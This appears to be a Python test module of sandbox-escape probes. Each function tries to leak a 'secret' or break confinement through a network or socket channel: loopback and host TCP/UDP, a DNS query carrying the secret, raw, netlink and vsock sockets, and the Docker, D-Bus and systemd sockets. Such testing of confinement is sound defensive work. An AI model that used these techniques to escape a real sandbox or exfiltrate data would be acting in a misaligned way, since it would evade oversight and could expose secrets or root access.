"""Attacks over the network and over sockets: to reach anything, or to tell anybody."""

import ctypes
import os
import socket
import struct

from common import OUTSIDE, any_of, expect, refuse


def connect(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as out:
        out.settimeout(3)
        out.connect(address)
        out.send(b"secret")


def tcp_to_loopback(at):
    connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", at.bystander["tcp"]))


def tcp_to_loopback_six(at):
    connect(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", at.bystander["tcp"]))


def tcp_to_the_host(at):
    """The host by its own address, which is not loopback."""
    connect(socket.AF_INET, socket.SOCK_STREAM, (at.bystander["address"], at.bystander["tcp"]))


def tcp_fast_open(at):
    """A connection that is made by sending, without `connect`."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.settimeout(3)
        out.sendto(b"secret", socket.MSG_FASTOPEN, ("127.0.0.1", at.bystander["tcp"]))


def multipath_tcp(at):
    connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", at.bystander["tcp"]), 262)


def udp_to_loopback(at):
    connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", at.bystander["udp"]))
    return OUTSIDE


def udp_to_the_host(at):
    connect(socket.AF_INET, socket.SOCK_DGRAM, (at.bystander["address"], at.bystander["udp"]))
    return OUTSIDE


def udp_without_connecting(at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"secret", ("127.0.0.1", at.bystander["udp"]))
    return OUTSIDE


def udp_six(at):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as out:
        out.sendto(b"secret", ("::ffff:127.0.0.1", at.bystander["udp"]))
    return OUTSIDE


def name_lookup(at):
    """A secret as a question for a name server, which needs no connection."""
    question = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\6secret\7example\0" + struct.pack("!2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as out:
        out.sendto(question, (at.bystander["address"], at.bystander["udp"]))
    return OUTSIDE


def listen_for_the_host(at):
    """A port that the user's browser or build would reach."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind((at.bystander["address"], 0))
        listener.listen()


def raw_socket(at):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def packet_socket(at):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()


def netlink_interfaces(at):
    """Asks for the interfaces of the host, with their addresses."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as link:
        link.settimeout(3)
        link.bind((0, 0))
        link.send(struct.pack("=IHHII", 20, 18, 0x301, 1, 0) + b"\0\0\0\0")
        answer = link.recv(1 << 16)
    if at.bystander["interface"].encode() + b"\0" not in answer:
        refuse("only loopback is there")


def interfaces_of_every_process(at):
    """The interfaces as `/proc` tells them for everything that is seen, the keeper included, which was outside once."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/net/dev") as listed:
                if at.bystander["interface"] + ":" in listed.read():
                    return
        except OSError:
            pass
    refuse("only loopback is there")


def netlink_sockets(at):
    """Lists the sockets of the whole host."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4).close()


def netlink_events(at):
    """Listens to what devices the kernel adds."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15).close()


def vsock(at):
    """Leads out of a virtual machine, past every network namespace."""
    socket.socket(40, socket.SOCK_STREAM).close()


def rare_families(at):
    """Every family that no tool needs; each is a piece of kernel that few have looked at."""
    needed = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    kinds = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)
    for family in set(range(1, 46)) - needed:
        for kind in kinds:
            try:
                socket.socket(family, kind).close()
                return
            except OSError:
                pass
    refuse("there is none")


def abstract_socket(at):
    connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + at.bystander["abstract"])


def abstract_datagram(at):
    connect(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + at.bystander["abstract"] + "-datagrams")
    return OUTSIDE


def pathname_socket(at):
    connect(socket.AF_UNIX, socket.SOCK_STREAM, at.bystander["stream"])


def pathname_datagram(at):
    connect(socket.AF_UNIX, socket.SOCK_DGRAM, at.bystander["datagrams"])
    return OUTSIDE


def a_pair_that_is_connected_again(at):
    """A pair needs no `socket` call, and one end of it can be pointed elsewhere."""
    one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"secret", at.bystander["datagrams"])
    return OUTSIDE


def a_pair_to_an_abstract_name(at):
    one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"secret", "\0" + at.bystander["abstract"] + "-datagrams")
    return OUTSIDE


def services_of_the_system(at):
    """Docker, D-Bus, systemd and their kind: whoever reaches one of them is root."""
    def reach(path):
        with socket.socket(socket.AF_UNIX) as out:
            out.connect(path)

    any_of([lambda path=path: reach(path) for path in at.bystander["services"]])
